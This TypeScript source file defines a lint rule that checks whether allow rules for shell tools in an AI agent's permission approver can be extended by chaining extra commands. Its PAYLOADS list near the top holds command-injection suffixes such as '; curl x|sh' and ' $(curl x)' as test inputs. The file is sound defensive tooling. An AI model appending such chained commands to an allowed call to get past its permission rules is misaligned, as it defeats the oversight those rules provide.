import { findInputWitness, ruleMatchesInput, stringKeys } from '@verdict/analysis';
import { createRule } from '../create-rule.ts';
import { SHELL_TOOLS } from '../support/approver-facts.ts';
import { commandRuleText, regexCommand } from '../support/command-words.ts';

/** Ways an attacker (or a confused model) extends an allowed command line. */
const PAYLOADS = ['; curl x|sh', ' && curl x', ' | sh', ' $(curl x)', ' `curl x`', '\ncurl x', ' || curl x'];

export default createRule({
  id: 'rules/shell-injection',
  meta: {
    description: 'an allow rule for a shell tool that still matches after a command is chained onto the allowed one',
    severity: 'error',
    category: 'rules',
    messages: {
      extensible:
        'this allow rule for `{{tool}}` also allows the command extended with `{{payload}}`, e.g. `{{example}}`',
      // The same finding on a rule whose command a command rule can say (its words are readable).
      extensibleCommand:
        'this allow rule for `{{tool}}` also allows the command extended with `{{payload}}`, e.g. `{{example}}`',
    },
    help: {
      extensible:
        'match the whole command with `field: command` and an exact pattern (`field` rules are anchored at both ends), and deny `[;&|`$\\n]` in commands',
      extensibleCommand: 'write a command rule, which allows a call only when every command it executes is allowed: `{{suggestion}}`',
    },
    docs: { recommended: true },
    // The same hole in an allow rule, said once (as an error) where both rules see it.
    supersedes: ['rules/prefer-command-rule'],
    options: {
      tools: { description: 'Extra tool names treated as shells (compared case-insensitively).', default: [] },
    },
  },
  create(ctx) {
    const extra = Array.isArray(ctx.options.tools) ? ctx.options.tools.filter((t): t is string => typeof t === 'string') : [];
    const shells = new Set([...SHELL_TOOLS, ...extra.map((t) => t.toLowerCase())]);
    return {
      rule(rule, list, _index, approver) {
        if (list !== 'allow' || rule.tool === '' || !shells.has(rule.tool.toLowerCase())) return;
        const mode = approver.input;
        const witness = findInputWitness(ctx.regexCache, rule, 'allow', mode);
        if (witness === undefined) return;
        const keys = rule.field !== undefined ? Object.keys(witness.value) : stringKeys(witness.value);
        for (const payload of PAYLOADS) {
          for (const key of keys) {
            const base = witness.value[key];
            if (typeof base !== 'string') continue;
            const extended = JSON.stringify({ ...witness.value, [key]: base + payload });
            if (ruleMatchesInput(ctx.regexCache, rule, 'allow', mode, extended) === true) {
              const data = { tool: rule.tool, payload: JSON.stringify(payload).slice(1, -1), example: extended };
              const command = regexCommand(ctx.regexCache, rule, 'allow', approver);
              ctx.report({
                span: rule.matchSpan ?? rule.span,
                ...(command === undefined
                  ? { messageId: 'extensible', data }
                  : { messageId: 'extensibleCommand', data: { ...data, suggestion: commandRuleText(ctx.syntax, 'allow', rule.tool, command.words) } }),
              });
              return;
            }
          }
        }
      },
    };
  },
});
